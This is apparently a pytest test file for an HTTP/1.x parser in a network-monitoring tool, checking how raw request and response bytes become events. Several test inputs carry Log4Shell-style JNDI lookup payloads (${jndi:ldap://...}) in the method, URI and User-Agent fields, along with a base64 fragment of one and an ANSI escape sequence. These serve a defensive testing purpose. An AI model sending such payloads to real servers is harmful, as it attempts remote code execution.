"""HTTP/1.x parser: payload chunks in, HttpRequest/HttpResponse events out."""

from __future__ import annotations

import pytest

from kubectl_netmon.capture.l7.events import HttpRequest, HttpResponse
from kubectl_netmon.capture.l7.http import BODY_LIMIT, HEADER_LIMIT, HttpParser
from tests.capture.l7.samples import CHUNKED_POST, GET
from tests.capture.l7.streams import feed_all

REQ, RESP = True, False

GET_EVENT = HttpRequest(
    ts_ns=1, method="GET", uri="/index.html?q=1", version="1.1", host="shop.example",
    user_agent="curl/8.0",
    headers=(("host", "shop.example"), ("user-agent", "curl/8.0"), ("accept", "*/*")))

CHUNKED_POST_EVENT = HttpRequest(
    ts_ns=1, method="POST", uri="/api", version="1.1", host="h", content_type="application/json",
    headers=(("host", "h"), ("content-type", "application/json"),
             ("transfer-encoding", "chunked"), ("x-trailer", "t")),
    body=b'{"a":"${j}}', body_len=11)


def _request(headers=(), **fields) -> HttpRequest:
    """The event the parser gives (headers as a tuple: it shares them between messages)."""
    return HttpRequest(**{"ts_ns": 1, "version": "1.1", "headers": tuple(headers), **fields})


def _response(headers=(), **fields) -> HttpResponse:
    return HttpResponse(**{"ts_ns": 1, "version": "1.1", "reason": "OK",
                           "headers": tuple(headers), **fields})


CASES = {
    "get with headers": ([(REQ, GET)], [GET_EVENT]),
    "bare LF line ends and odd whitespace": (
        [(REQ, b"GET  /a   HTTP/1.0\nHost:   h  \nUser-Agent:\tx y\t\n\n")],
        [_request(method="GET", uri="/a", version="1.0", host="h", user_agent="x y",
                  headers=[("host", "h"), ("user-agent", "x y")])]),
    "payload in the method token": (
        [(REQ, b"${jndi:ldap://e.example/a} / HTTP/1.1\r\n\r\n")],
        [_request(method="${jndi:ldap://e.example/a}", uri="/")]),
    "target with spaces kept whole": (
        [(REQ, b"GET /${jndi:ldap://x/a b} HTTP/1.1\r\n\r\n")],
        [_request(method="GET", uri="/${jndi:ldap://x/a b}")]),
    "folded header joins the previous value": (
        [(REQ, b"GET / HTTP/1.1\r\nX-Api: one\r\n  two\r\n\r\n")],
        [_request(method="GET", uri="/", headers=[("x-api", "one two")])]),
    "line without a colon kept with an empty name": (
        [(REQ, b"GET / HTTP/1.1\r\nJHtqbmRp Base64\r\n\r\n")],
        [_request(method="GET", uri="/", headers=[("", "JHtqbmRp Base64")])]),
    "non-ASCII bytes decoded latin-1": (
        [(REQ, b"GET /\xff HTTP/1.1\r\nX: \x1b[31m\r\n\r\n")],
        [_request(method="GET", uri="/\xff", headers=[("x", "\x1b[31m")])]),
    "content-length body over several chunks": (
        [(REQ, b"POST /login HTTP/1.1\r\nContent-Length: 10\r\n\r\nuser"), (REQ, b"=a&p"),
         (REQ, b"=b")],
        [_request(method="POST", uri="/login", headers=[("content-length", "10")],
                  body=b"user=a&p=b", body_len=10)]),
    "chunked body de-chunked, trailer kept": ([(REQ, CHUNKED_POST)], [CHUNKED_POST_EVENT]),
    "response body until close": (
        [(REQ, b"GET / HTTP/1.0\r\n\r\n"), (RESP, b"HTTP/1.0 200 OK\r\nContent-Type: text/html"
                                                  b"\r\n\r\n<html>"), (RESP, b"</html>")],
        [_request(method="GET", uri="/", version="1.0"),
         _response(status=200, version="1.0", content_type="text/html",
                   headers=[("content-type", "text/html")], body=b"<html></html>", body_len=13)]),
    "pipelined requests and responses": (
        [(REQ, b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
         (RESP, b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nA"
                b"HTTP/1.1 404 Not Found\r\nContent-Length: 1\r\n\r\nB")],
        [_request(method="GET", uri="/a"), _request(method="GET", uri="/b"),
         _response(status=200, headers=[("content-length", "1")], body=b"A", body_len=1),
         _response(status=404, reason="Not Found", headers=[("content-length", "1")], body=b"B",
                   body_len=1)]),
    "response to HEAD has no body despite its length": (
        [(REQ, b"GET / HTTP/1.1\r\n\r\nHEAD / HTTP/1.1\r\n\r\n"),
         (RESP, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi"
                b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n")],
        [_request(method="GET", uri="/"), _request(method="HEAD", uri="/"),
         _response(status=200, headers=[("content-length", "2")], body=b"hi", body_len=2),
         _response(status=200, headers=[("content-length", "5")])]),
    "100 continue before the final response": (
        [(REQ, b"PUT /f HTTP/1.1\r\nContent-Length: 2\r\nExpect: 100-continue\r\n\r\n"),
         (RESP, b"HTTP/1.1 100 Continue\r\n\r\n"), (REQ, b"ok"),
         (RESP, b"HTTP/1.1 204 No Content\r\n\r\n")],
        [_response(status=100, reason="Continue"),
         _request(method="PUT", uri="/f", body=b"ok", body_len=2,
                  headers=[("content-length", "2"), ("expect", "100-continue")]),
         _response(status=204, reason="No Content")]),
    "upgrade ends HTTP parsing on both sides": (
        [(REQ, b"GET /ws HTTP/1.1\r\nUpgrade: websocket\r\n\r\n"),
         (RESP, b"HTTP/1.1 101 Switching Protocols\r\n\r\n\x81\x05hello"),
         (REQ, b"GET /not-http HTTP/1.1\r\n\r\n")],
        [_request(method="GET", uri="/ws", headers=[("upgrade", "websocket")]),
         _response(status=101, reason="Switching Protocols")]),
    "connect tunnel ends HTTP parsing on both sides": (
        [(REQ, b"CONNECT db.example:443 HTTP/1.1\r\n\r\n"),
         (RESP, b"HTTP/1.1 200 Connection established\r\n\r\n"),
         (REQ, b"\x16\x03\x01\x00\x05hello"), (RESP, b"HTTP/1.1 200 OK\r\n\r\n")],
        [_request(method="CONNECT", uri="db.example:443"),
         _response(status=200, reason="Connection established")]),
    "header cut short by the end of the connection": (
        [(REQ, b"GET /x HTTP/1.1\r\nUser-Agent: ${jndi:ldap://a/b}\r\nAcc")],
        [_request(method="GET", uri="/x", user_agent="${jndi:ldap://a/b}",
                  headers=[("user-agent", "${jndi:ldap://a/b}"), ("", "Acc")])]),
    "body cut short keeps the announced length": (
        [(REQ, b"POST / HTTP/1.1\r\nContent-Length: 100\r\n\r\nabc")],
        [_request(method="POST", uri="/", headers=[("content-length", "100")], body=b"abc",
                  body_len=100)]),
    "binary garbage gives nothing": ([(REQ, b"\x00\x01\x02 \xff\r\n\r\n")], []),
    "garbage after a request stops that direction only": (
        [(REQ, b"GET /a HTTP/1.1\r\n\r\n\x00\x00\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
         (RESP, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")],
        [_request(method="GET", uri="/a"),
         _response(status=200, headers=[("content-length", "0")])]),
}


@pytest.mark.parametrize("chunks, expected", CASES.values(), ids=CASES.keys())
def test_parse(chunks, expected):
    assert feed_all(HttpParser(), chunks) == expected


@pytest.mark.parametrize("data, expected", [(GET, GET_EVENT), (CHUNKED_POST, CHUNKED_POST_EVENT)],
                         ids=["get", "chunked post"])
def test_request_split_at_every_byte_boundary(data, expected):
    for cut in range(1, len(data)):
        assert feed_all(HttpParser(), [(REQ, data[:cut]), (REQ, data[cut:])]) == [expected], cut


def test_request_fed_one_byte_at_a_time():
    chunks = [(REQ, CHUNKED_POST[i:i + 1]) for i in range(len(CHUNKED_POST))]
    assert feed_all(HttpParser(), chunks) == [CHUNKED_POST_EVENT]


def test_event_comes_when_the_body_completes_not_before():
    parser = HttpParser()
    assert parser.feed(REQ, b"POST / HTTP/1.1\r\nContent-Length: 4\r\n\r\nab", 1) == []
    assert [e.body for e in parser.feed(REQ, b"cd", 2)] == [b"abcd"]


def test_event_time_is_when_the_message_started():
    parser = HttpParser()
    parser.feed(REQ, b"GET / HTTP/1.1\r\n", 10)
    assert [e.ts_ns for e in parser.feed(REQ, b"\r\n", 20)] == [10]


def test_large_body_emitted_at_the_limit_with_announced_length():
    parser = HttpParser()
    head = b"POST /up HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % (BODY_LIMIT * 2)
    events = parser.feed(REQ, head + b"a" * BODY_LIMIT, 1)
    assert [(len(e.body), e.body_len) for e in events] == [(BODY_LIMIT, BODY_LIMIT * 2)]
    assert parser.feed(REQ, b"a" * BODY_LIMIT + b"GET /next HTTP/1.1\r\n\r\n", 2)[0].uri == "/next"


def test_chunked_body_at_the_limit_counts_what_was_seen_so_far():
    head = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n" % (BODY_LIMIT + 10)
    parser = HttpParser()
    [event] = parser.feed(REQ, head + b"z" * BODY_LIMIT, 1)
    assert (len(event.body), event.body_len) == (BODY_LIMIT, BODY_LIMIT)
    assert feed_all(parser, [(REQ, b"z" * 10 + b"\r\n0\r\n\r\n")]) == []


def test_header_without_end_stops_at_the_limit():
    parser = HttpParser()
    assert parser.feed(REQ, b"GET / HTTP/1.1\r\nX: " + b"a" * HEADER_LIMIT, 1) == []
    assert feed_all(parser, [(REQ, b"\r\n\r\nGET /later HTTP/1.1\r\n\r\n")]) == []


def test_response_side_found_by_content_not_by_direction():
    events = feed_all(HttpParser(), [(REQ, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
                                     (RESP, b"GET / HTTP/1.1\r\n\r\n")])
    assert [type(e).__name__ for e in events] == ["HttpResponse", "HttpRequest"]
